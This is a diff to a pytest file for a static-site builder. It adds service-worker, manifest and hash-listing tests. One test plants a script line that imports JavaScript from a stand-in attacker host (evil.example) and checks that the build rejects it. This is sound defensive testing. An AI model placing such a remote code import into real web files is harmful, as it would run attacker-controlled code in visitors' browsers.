@@ -18,7 +18,8 @@ ROOT = Path(__file__).parents[3]
 CACHE = ROOT / ".cache"
 
 PAGE = """<!doctype html><title>{{version}}</title><script src="asset:panel.min.js"></script>
-<script type="application/json" id="boot-manifest">{{boot-manifest}}</script>"""
+<script type="application/json" id="boot-manifest">{{boot-manifest}}</script>
+<script defer src="asset:kit.js" data-only="kit"></script>"""
 
 START = """
 import sys, types
@@ -75,7 +76,12 @@ def small_checkout(root: Path) -> Path:
         "web/__init__.py": "",
         "web/thing.py": '"""What it is."""\n',
         "web/static/index.html": PAGE,
+        "web/static/sw.js": "const x = SITE;\n",
+        "web/static/sw-off.js": "2;\n",
+        "web/static/manifest.webmanifest": '{"icons": []}',
         "web/bridge/worker.js": "1;\n",
+        "web/bridge/page.js": "2;\n",
+        "web/bridge/kit.js": "3;\n",
         "web/bridge/messages.json": '{"page_to_worker": {}}',
         "pycore/__init__.py": "",
         "pycore/thing.py": "def answer():\n    return {'b', 'a', 'c'} | {42}\n",
@@ -91,7 +97,11 @@ def small_checkout(root: Path) -> Path:
 def built(inputs: Inputs, tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
     """Return a site whose third-party archives come from the checkout's caches where they are."""
     root = small_checkout(tmp_path_factory.mktemp("first"))
-    return site.Builder(root, CACHE, inputs).build()
+    return build(root, CACHE, inputs)
+
+
+def build(root: Path, cache: Path, inputs: Inputs) -> dict[str, bytes]:
+    return site.site_of(site.Builder(root, cache, inputs).parts())
 
 
 @pytest.fixture(scope="module")
@@ -117,7 +127,7 @@ def test_two_builds_in_different_folders_are_identical(
     built: dict[str, bytes], inputs: Inputs, tmp_path: Path
 ) -> None:
     root = small_checkout(tmp_path / "elsewhere" / "deeper")
-    again = site.Builder(root, tmp_path / "empty-cache", inputs).build()
+    again = build(root, tmp_path / "empty-cache", inputs)
     assert sorted(again) == sorted(built)
     assert [name for name, content in again.items() if content != built[name]] == []
 
@@ -127,9 +137,9 @@ def test_a_rebuild_after_an_edit_changes_only_what_was_edited(
 ) -> None:
     root = small_checkout(tmp_path)
     (root / "web/thing.py").write_text('"""Something else."""\n', encoding="utf-8")
-    again = site.Builder(root, CACHE, inputs).build()
+    again = build(root, CACHE, inputs)
     changed = {name for name in again if again[name] != built.get(name)}
-    assert {name.split(".")[0] for name in changed} == {"assets/app", "index", "files"}
+    assert {name.split(".")[0] for name in changed} == {"assets/app", "index", "sw", "files"}
 
 
 def test_the_manifest_describes_its_files(built: dict[str, bytes]) -> None:
@@ -176,14 +186,29 @@ def test_the_site_holds_the_notices_and_no_surprises(built: dict[str, bytes]) ->
         "assets",
         "files.json",
         "index.html",
+        "manifest.webmanifest",
+        "sw-off.js",
+        "sw.js",
     }
+    assert not [name for name in built if name.startswith("assets/kit.")]
+
+
+def test_the_service_worker_lists_what_the_page_needs(built: dict[str, bytes]) -> None:
+    """Every file of the site but what serves deployment, with its hash: a change of any changes the worker."""
+    first, rest = built["sw.js"].decode().split("\n", 1)
+    assert rest == "const x = SITE;\n"
+    listed = json.loads(first.removeprefix("const SITE = ").removesuffix(";"))
+    assert listed["version"] == "9.8.7"
+    assert set(listed["files"]) == set(built) - {"sw.js", "sw-off.js", "files.json", ".nojekyll"}
+    everything = json.loads(built["files.json"])
+    assert all(everything[path] == entry for path, entry in listed["files"].items())
 
 
 def test_python_that_does_not_compile_is_named(inputs: Inputs, tmp_path: Path) -> None:
     root = small_checkout(tmp_path)
     (root / "pycore/thing.py").write_text("def answer(:\n", encoding="utf-8")
     with pytest.raises(BuildError, match=r"pycore/thing\.py cannot be compiled.*line 1"):
-        site.Builder(root, CACHE, inputs).build()
+        build(root, CACHE, inputs)
 
 
 def test_a_planted_address_fails_the_whole_build(inputs: Inputs, tmp_path: Path) -> None:
@@ -191,7 +216,7 @@ def test_a_planted_address_fails_the_whole_build(inputs: Inputs, tmp_path: Path)
     script = 'import("https://evil.example/x.js");'
     (root / "web/bridge/worker.js").write_text(script, encoding="utf-8")
     with pytest.raises(BuildError, match=r"worker\.js holds https://evil\.example"):
-        site.Builder(root, CACHE, inputs).build()
+        build(root, CACHE, inputs)
 
 
 def test_the_archives_boot_and_draw(booted: dict[str, object]) -> None:
